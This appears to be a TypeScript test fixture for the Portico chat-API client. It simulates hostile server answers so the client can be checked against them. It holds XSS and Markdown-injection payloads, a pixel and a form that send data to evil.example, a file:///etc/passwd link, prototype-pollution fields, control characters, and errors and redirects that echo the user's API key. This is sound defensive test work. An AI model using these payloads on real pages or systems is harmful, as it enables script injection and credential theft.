// Answers and errors that attack: markup, links, control characters, and the key sent back.
import { dataEvent } from '../formats/chat';
import { chatQuirk } from './chatFaults';
import type { Exchange } from '../http/exchange';
import { tokens } from '../answers/question';
import {
  beginPartial,
  failed,
  good,
  goodText,
  partialText,
  refusal,
  spoken,
  stop,
  telling,
  type Fault,
} from './fault';

/** Nothing of this may run, load or be taken for Portico's own. */
const hostileMarkdown = `<script>window.pwned = 1</script>
<img src=x onerror="window.pwned = 1"><svg onload="window.pwned = 1"></svg>
<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe><style>* { display: none }</style>
<form action="https://evil.example"><button>Set API key</button></form>
<a href="javascript:window.pwned = 1">a</a><base href="https://evil.example/"><details open ontoggle="window.pwned = 1">

[script](javascript:window.pwned=1) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [command](command:workbench.action.terminal.new) [file](file:///etc/passwd) [vscode](vscode://portico.portico/run)
[blank](java\nscript:window.pwned=1) [entity](javascript&colon;window.pwned=1) <javascript:window.pwned=1>
![pixel](https://evil.example/pixel.png?secret=1) ![x](x" onerror="window.pwned=1)
[https://good.example](https://evil.example) [ref]

[ref]: javascript:window.pwned=1 "title\\" onmouseover=window.pwned=1"

\`\`\`html"><script>window.pwned = 1</script>
</code></pre><script>window.pwned = 1</script>
\`\`\`

| <b onclick=window.pwned=1>a</b> | \`<img src=x onerror=window.pwned=1>\` |
| --- | --- |
| {{constructor.constructor('window.pwned=1')()}} | \${window.pwned=1} |
`;

const invisible =
  'left\u202Etfel\u202C zero\u200Bwidth \u2066isolate\u2069 tag\u{E0041}\u{E007F} esc\u001B[31m nul\u0000 bell\u0007 c1\u009B end';

/** The key as it was sent, and in two disguises. */
function echoes(exchange: Exchange): string {
  const key = (exchange.request.headers['authorization'] ?? '').replace(/^Bearer /u, '');
  return [key, Buffer.from(key).toString('base64'), encodeURIComponent(key)].join(' ');
}

const markup: readonly Fault[] = [
  ...['fault-xss', 'fault-xss-<img src=x onerror="window.pwned=1">'].map((id) =>
    telling({
      id,
      about:
        id === 'fault-xss'
          ? 'The answer is hostile HTML and Markdown.'
          : 'The model ID is hostile HTML, and so is the answer.',
      parts: [...spoken(hostileMarkdown), stop],
      expected: { state: 'complete', text: hostileMarkdown },
    }),
  ),
  refusal({
    id: 'fault-xss-error',
    about: 'The error’s message, type and code are hostile HTML.',
    status: 400,
    body: {
      error: { message: hostileMarkdown, type: '<svg onload=window.pwned=1>', code: '"><script>' },
    },
    headers: { 'X-Oneapi-Request-Id': '<img src=x onerror=window.pwned=1>' },
    expected: failed('badRequest', { detail: '<script>window.pwned = 1</script>' }),
  }),
  telling({
    id: 'fault-invisible-characters',
    about: 'The answer holds control, zero-width, tag and direction characters.',
    parts: [...spoken(invisible), stop],
    expected: { state: 'complete', text: invisible },
  }),
  chatQuirk({
    id: 'fault-prototype',
    about: 'Chunks hold fields named __proto__ and constructor.',
    deltas: tokens(goodText).map((content) => ({
      content,
      ['__proto__']: { polluted: true },
      constructor: null,
    })),
    message: { content: goodText, ['__proto__']: { polluted: true } },
    expected: good,
  }),
];

const keyEchoes: readonly Fault[] = [
  refusal({
    id: 'fault-401-echoes-key',
    about: '401 that sends the key back plain, in base64 and URL-encoded.',
    status: 401,
    body: (exchange) => ({
      error: {
        message: `Incorrect API key provided: ${echoes(exchange)}`,
        code: 'invalid_api_key',
      },
    }),
    expected: failed('keyRejected', { detail: 'Incorrect API key provided' }),
  }),
  refusal({
    id: 'fault-500-echoes-header',
    about: '500 that sends the whole request header back.',
    status: 500,
    body: (exchange) => ({
      error: { message: `Failed: ${JSON.stringify(exchange.request.headers)} ${echoes(exchange)}` },
    }),
    expected: failed('serverError'),
  }),
  {
    id: 'fault-html-echoes-key',
    about: 'A web page with status 200 that shows the key.',
    streamed: true,
    unstreamed: true,
    expected: failed('notApi'),
    serve: ({ exchange }) =>
      exchange.html(200, `<html><body><pre>${echoes(exchange)}</pre></body></html>`),
  },
  {
    id: 'fault-request-id-echoes-key',
    about: '500 whose request ID is the key.',
    streamed: true,
    unstreamed: true,
    expected: failed('serverError', { status: 500 }),
    serve: ({ exchange }) =>
      exchange.json(
        500,
        { error: { message: 'Failed.', code: echoes(exchange) } },
        { 'X-Oneapi-Request-Id': encodeURIComponent(echoes(exchange)) },
      ),
  },
  {
    id: 'fault-redirect-echoes-key',
    about: '302 to another origin with the key in the path and the query.',
    streamed: true,
    unstreamed: true,
    expected: failed('redirected', { status: 302 }),
    serve: ({ exchange }, places) => {
      const key = encodeURIComponent(echoes(exchange));
      return exchange.whole(302, 'text/html', '', {
        Location: `${places.elsewhere}/${key}?key=${key}`,
      });
    },
  },
  {
    id: 'fault-error-midway-echoes-key',
    about: 'An error in the middle of the stream sends the key back.',
    streamed: true,
    unstreamed: false,
    expected: { ...failed('streamError'), text: partialText },
    serve: async (reply) => {
      await beginPartial(reply);
      const message = `Bad key ${echoes(reply.exchange)}`;
      await reply.exchange.end(dataEvent({ error: { message } }));
    },
  },
];

export const hostileFaults: readonly Fault[] = [...markup, ...keyEchoes];
